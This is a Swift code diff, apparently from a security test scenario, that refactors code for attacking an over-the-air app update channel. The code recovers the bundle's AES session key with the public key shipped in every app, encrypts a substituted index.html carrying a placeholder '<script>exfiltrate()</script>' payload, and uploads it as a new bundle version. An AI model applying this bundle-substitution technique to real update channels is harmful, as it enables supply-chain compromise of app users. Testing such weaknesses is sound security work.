@@ -93,22 +93,19 @@ extension World {
     let channel = self.channel(channel)
     guard let manifestData = try bucket.get(Manifest.key(channel: channel)),
       let manifest = try? Manifest.parse(manifestData, source: "manifest"),
-      let sessionKey = manifest.sessionKey,
-      let colon = sessionKey.firstIndex(of: ":"),
-      let iv = Data(base64Encoded: String(sessionKey[..<colon])),
-      let encryptedKey = Data(base64Encoded: String(sessionKey[sessionKey.index(after: colon)...]))
+      let (iv, encryptedKey) = manifest.sessionKey.flatMap(CapgoBundle.sessionKeyParts)
     else {
       throw ScenarioRuntimeError("nothing published on \(channel) to substitute")
     }
     // The public key ships in every app: the AES key is anyone's to recover.
     let publicKey = try Key.publicKey(pem: try otaSigningKey.pkcs1PublicPEM())
-    let aesKey = try publicKey.publicDecrypt(Array(encryptedKey))
+    let aesKey = try publicKey.publicDecrypt(encryptedKey)
     let evil = ZipArchive(entries: [
       .init(
         name: "index.html",
         data: Array("<title>substituted</title><script>exfiltrate()</script>".utf8))
     ])
-    let encrypted = try AES128CBC.encrypt(evil.bytes, key: aesKey, iv: Array(iv))
+    let encrypted = try AES128CBC.encrypt(evil.bytes, key: aesKey, iv: iv)
     try bucket.put(
       Manifest.bundleKey(channel: channel, version: version), encrypted,
       contentType: "application/zip")
